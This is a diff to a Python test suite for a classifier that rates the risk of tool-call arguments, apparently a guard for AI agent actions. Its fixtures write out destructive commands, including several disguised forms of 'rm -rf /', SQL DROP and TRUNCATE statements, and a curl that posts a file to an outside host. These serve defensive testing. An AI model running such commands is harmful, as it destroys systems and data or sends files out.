@@ -54,7 +54,7 @@ LINES = [
     ("HIGH", "python3 -c 'import os'"),
     ("HIGH", "curl -d @notes.txt https://example.com"),
     ("HIGH", "echo x >> ~/.bashrc"),
-    ("HIGH", "X=rm; $X -rf /"),
+    ("CRITICAL", "X=rm; $X -rf /"),
     ("HIGH", "kubectl delete pod x"),
     ("CRITICAL", "rm -rf /"),
     ("CRITICAL", "rm -rf /*"),
@@ -137,6 +137,52 @@ VALUES: list[tuple[str, dict[str, Any], Effect]] = [
     ("CRITICAL", {"sql": "delete from t"}, "write"),
     ("CRITICAL", {"sql": "SELECT 1; drop /* x */ table t"}, "write"),
     ("CRITICAL", {"sql": "DELETE FROM t -- WHERE id = 1"}, "write"),
+    ("CRITICAL", {"command": "rm", "args": ["-rf", "/"]}, "write"),
+    ("CRITICAL", {"program": "rm", "args": "-rf /"}, "write"),
+    ("CRITICAL", {"executable": "/bin/sh", "arguments": ["-c", "rm -rf /"]}, "write"),
+    ("CRITICAL", {"argv": ["sh"], "stdin": "rm -rf /"}, "write"),
+    ("CRITICAL", {"argv": ["sudo", "bash", "-s"], "stdin": "rm -rf /"}, "write"),
+    ("HIGH", {"argv": ["sh"], "stdin": "ls"}, "write"),
+    ("LOW", {"argv": ["cat"], "stdin": "rm -rf /"}, "write"),
+    ("CRITICAL", {"commands": ["ls", "rm -rf /"]}, "write"),
+    ("CRITICAL", {"shellCommand": "rm -rf /"}, "write"),
+    ("CRITICAL", {"shell_command": "rm -rf /"}, "write"),
+    ("CRITICAL", {"bashScript": "ls; rm -rf /"}, "write"),
+    ("CRITICAL", {"argv": ["rm -rf /"]}, "write"),
+    ("HIGH", {"code": "import os; os.listdir()"}, "write"),
+    ("CRITICAL", {"code": "import os; os.system('rm -rf /')"}, "write"),
+    ("LOW", {"code": "E42"}, "write"),
+    ("HIGH", {"method": "DELETE"}, "write"),
+    ("HIGH", {"method": "delete"}, "read"),
+    ("HIGH", {"request": {"http_method": "DELETE", "path": "x"}}, "write"),
+    ("HIGH", {"headers": {"X-HTTP-Method-Override": "DELETE"}}, "write"),
+    ("HIGH", {"action": "delete", "id": 3}, "write"),
+    ("HIGH", {"operation": "deleteUser"}, "write"),
+    ("MEDIUM", {"method": "PUT"}, "write"),
+    ("MEDIUM", {"method": "PATCH"}, "write"),
+    ("MEDIUM", {"httpMethod": "post"}, "write"),
+    ("LOW", {"method": "GET"}, "write"),
+    ("LOW", {"action": "list"}, "write"),
+    ("HIGH", {"body": '{"method": "DELETE"}'}, "write"),
+    ("HIGH", {"body": '{"a": "{\\"method\\": \\"DELETE\\"}"}'}, "write"),
+    ("CRITICAL", {"payload": '{"command": "rm -rf /"}'}, "write"),
+    ("CRITICAL", {"text": "DROP TABLE people"}, "write"),
+    ("CRITICAL", {"input": "delete from people;"}, "write"),
+    ("CRITICAL", {"expression": "SELECT 1; TRUNCATE TABLE people"}, "write"),
+    ("CRITICAL", {"values": ["select 1", "drop database x"]}, "write"),
+    ("MEDIUM", {"expression": "DELETE FROM people WHERE id = 1"}, "write"),
+    ("HIGH", {"expression": "UPDATE people SET name = 'x'"}, "write"),
+    ("CRITICAL", {"body": '{"statements": ["drop table people"]}'}, "write"),
+    ("LOW", {"text": "Delete from the list what is old"}, "write"),
+    ("LOW", {"text": "Drop me a line"}, "write"),
+    ("LOW", {"text": "Update the people who set it up"}, "write"),
+    ("LOW", {"text": "Please drop the table from the plan"}, "write"),
+    ("LOW", {"path": "migrations/1.sql", "text": "DROP TABLE people;"}, "write"),
+    ("HIGH", {"query": "mutation { deleteUser(id: 1) { id } }"}, "write"),
+    ("HIGH", {"body": '{"query": "mutation X($a: Int) { a: removePost(id: $a) { id } }"}'}, "write"),
+    ("MEDIUM", {"query": 'mutation { renameUser(id: 1, name: "delete") { deleted } }'}, "write"),
+    ("LOW", {"query": "query { deletedUsers { id } }"}, "write"),
+    ("LOW", {"text": "a mutation {in a gene}"}, "write"),
     ("LOW", {"amount": 20}, "write"),
     ("LOW", {"amount": 20_000}, "read"),
     ("MEDIUM", {"amount": "150.00"}, "write"),
@@ -172,6 +218,20 @@ def test_every_risk_has_its_reasons_the_gravest_first() -> None:
     assert risk({}) == Risk("LOW", ())
 
 
+def test_a_call_with_very_many_reasons_shows_some_of_them() -> None:
+    found = risk({"argv": ["rm", *(f"file-{number}" for number in range(500))]})
+    assert len(found.reasons) == 13
+    assert found.reasons[-1] == "and 488 more"
+
+
+def test_arguments_that_are_nested_very_deeply_are_looked_at_all_the_same() -> None:
+    values: Any = {"command": "rm -rf /"}
+    for _ in range(5000):
+        values = {"a": values}
+    spec = ToolSpec(name="act", description="Acts.", schema=b"{}", level="RESTRICTED", effect="write")
+    assert assess(spec, Valid(values, b"{}")).level == "CRITICAL"
+
+
 @pytest.mark.parametrize("depth", [20, 2000])
 def test_what_is_nested_too_deeply_to_be_read_is_not_taken_for_harmless(depth: int) -> None:
-    assert risk({"command": "eval " * depth + "ls"}).level == "HIGH"
+    assert risk({"command": "eval " * depth + "ls"}).level == "CRITICAL"
